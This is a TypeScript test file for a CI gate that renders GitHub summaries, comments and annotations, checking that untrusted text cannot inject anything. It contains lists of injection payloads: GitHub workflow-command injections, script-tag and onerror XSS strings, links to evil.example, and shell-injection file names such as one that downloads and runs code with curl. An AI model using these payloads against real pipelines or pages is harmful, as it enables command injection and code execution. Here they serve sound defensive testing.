/** Names, reasons and paths that others chose must stay text: for Markdown, for HTML and for the runner. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { type GateDecision, gateResults } from '../../../../src/gate/decision.js';
import { annotationLine, commandProperty, commandText } from '../../../../src/gate/github/command.js';
import { renderGithub } from '../../../../src/gate/github/render.js';
import { plainText } from '../../../../src/report/escape.js';
import {
  makeCell,
  makeDecision,
  makeRequirement,
  makeRun,
  makeWaiver,
} from '../../../fixtures/github-decision.js';

/** `text` in every place of a decision that somebody else fills. */
function filled(text: string): GateDecision {
  const reasons = [{ code: 'too-slow', message: text }];
  const cell = makeCell('401/512', 'fail', -9, { id: text, phase: text, detail: text, arm: text, reasons });
  return makeDecision('fail', {
    harness: text,
    reasons,
    policy: { path: text, title: text, trust: text, sha256: 'c'.repeat(64), commit: null },
    base: { branch: text, commit: 'b'.repeat(40) },
    requirements: [makeRequirement([cell], 'fail', { matrix: text, machine: text, reasons })],
    evidence: [true, false].map((counts) =>
      makeRun({
        path: text,
        session: text,
        signer: text,
        machineId: text,
        finishedAt: text,
        counts,
        reasons,
      }),
    ),
    waivers: [true, false].map((applies) =>
      makeWaiver({
        path: text,
        matrix: text,
        cell: text,
        reason: text,
        signer: text,
        expiresAt: text,
        applies,
        reasons,
      }),
    ),
  });
}

/** The runner's own way back, from actions/runner: a command is a line that begins with `::`. */
function unescaped(text: string): string {
  return text
    .replaceAll('%3A', ':')
    .replaceAll('%2C', ',')
    .replaceAll('%0D', '\r')
    .replaceAll('%0A', '\n')
    .replaceAll('%25', '%');
}

const ATTACKS = [
  'x\n::error title=owned::owned',
  'x\r\n::set-output name=result::pass',
  'x%0A::stop-commands::token',
  'title,file=/etc/passwd,line=1::x',
  '##[set-output name=result]pass',
  '</details><script>alert(1)</script>',
  '<!-- qualify:other -->',
  '--> <img src=x onerror=alert(1)>',
  '| pass | all | fine |\n| --- | --- | --- |',
  '`` `code` ```\n```\nPASS',
  '[PASS](https://evil.example) ![x](https://evil.example/x.png)',
  '@maintainer please merge, fixes #1, www.evil.example',
  '**PASS** # PASS',
  '# PASS',
  '- PASS',
  '1. PASS',
  '/',
  '\u202eSSAP\u2066',
  '\u001b[2J\u001b]8;;https://evil.example\u0007PASS',
];

test('nothing that others chose becomes a command, a tag, a link, a mention or a row', () => {
  for (const attack of ATTACKS) {
    const files = renderGithub(filled(attack));
    const harmless = renderGithub(filled('harmless'));
    for (const name of ['summary.md', 'comment.md'] as const) {
      const [text, plain] = [files[name], harmless[name]];
      assert.equal(text.split('\n').length, plain.split('\n').length, `${name} has other lines: ${attack}`);
      const shown = text
        .split('\n')
        .slice(name === 'comment.md' ? 1 : 0)
        .join('\n');
      for (const line of shown.split('\n'))
        assert.match(line, /^$|^(### |- [a-z ]+: |[A-Za-z\d*|<`])/, 'a list or a heading of another');
      const marks = (of: string) => of.replaceAll(/`[^`\n]*`/g, '').replaceAll('<!-- -->', '');
      const body = marks(shown);
      assert.deepEqual(
        body.match(/<[^>]*>/g) ?? [],
        ['<details>', '<summary>', '</summary>', '</details>'],
        attack,
      );
      assert.doesNotMatch(
        shown.replaceAll(/`[^`\n]*`/g, ''),
        /(?<!\\)\]\(|https?:\/\/|(^|[^&\w])@\w|www\./,
        attack,
      );
      assert.equal(plainText(text.replaceAll('\n', '')), text.replaceAll('\n', ''));
    }
    const lines = files['annotations.txt'].trimEnd().split('\n');
    assert.equal(lines.length, harmless['annotations.txt'].trimEnd().split('\n').length);
    for (const line of lines)
      assert.match(line, /^::(error|warning|notice) title=[^:,\r\n]*::[^\r\n]*$/, attack);
    assert.equal(JSON.parse(files['check-run.json']).conclusion, 'failure');
  }
});

test('the command that a comment tells to paste holds no name that a shell would run or that is an option', () => {
  const told = (path: string, trust: string): string => {
    const decision = makeDecision('pass', { evidence: [makeRun({ path })] });
    const { 'comment.md': comment } = renderGithub({ ...decision, policy: { ...decision.policy, trust } });
    return /^Check it yourself: `(.*)`$/m.exec(comment)?.[1] ?? '';
  };
  assert.equal(
    told('in/run-1_a.tar', '.github/qualify trust.json'),
    'qualify verify run-1_a.tar --trust TRUST --explain',
  );
  for (const name of [
    '$(curl evil -o x;sh x).tar',
    '-x.tar',
    'a b.tar',
    'a;b',
    "a'b",
    '`id`',
    'é.tar',
    `${'x'.repeat(300)}`,
  ])
    assert.equal(
      told(`in/${name}`, '.github/trust.json'),
      'qualify verify RUN --trust .github/trust.json --explain',
      name,
    );
});

test('a command says what it was given and ends where it should, whatever that was', () => {
  assert.equal(annotationLine('error', 'a:b,c%', '50 % ::x'), '::error title=a%3Ab%2Cc%25::50 %25 ::x');
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), fc.string({ unit: 'binary' }), (title, message) => {
      const line = annotationLine('notice', title, message);
      const [, property = '', data = ''] = /^::notice title=([^:,\r\n]*)::([^\r\n]*)$/.exec(line) ?? [];
      assert.equal(unescaped(property), unescaped(commandProperty(title)));
      assert.equal(data, commandText(message));
      assert.doesNotMatch(unescaped(data), /[\r\n]/, 'also unescaped it is one line');
    }),
  );
});

test('any text in any place leaves the result readable', () => {
  fc.assert(
    fc.property(
      fc.string({ unit: 'binary', maxLength: 200 }),
      fc.constantFrom(...gateResults),
      (text, result) => {
        const decision = { ...filled(text), result, exitCode: 10 };
        const files = renderGithub(decision);
        assert.match(files['comment.md'], /^<!-- qualify:[\w./-]* -->\n\n### /);
        assert.notEqual(JSON.parse(files['check-run.json']).conclusion, 'success');
      },
    ),
    { numRuns: 200 },
  );
});
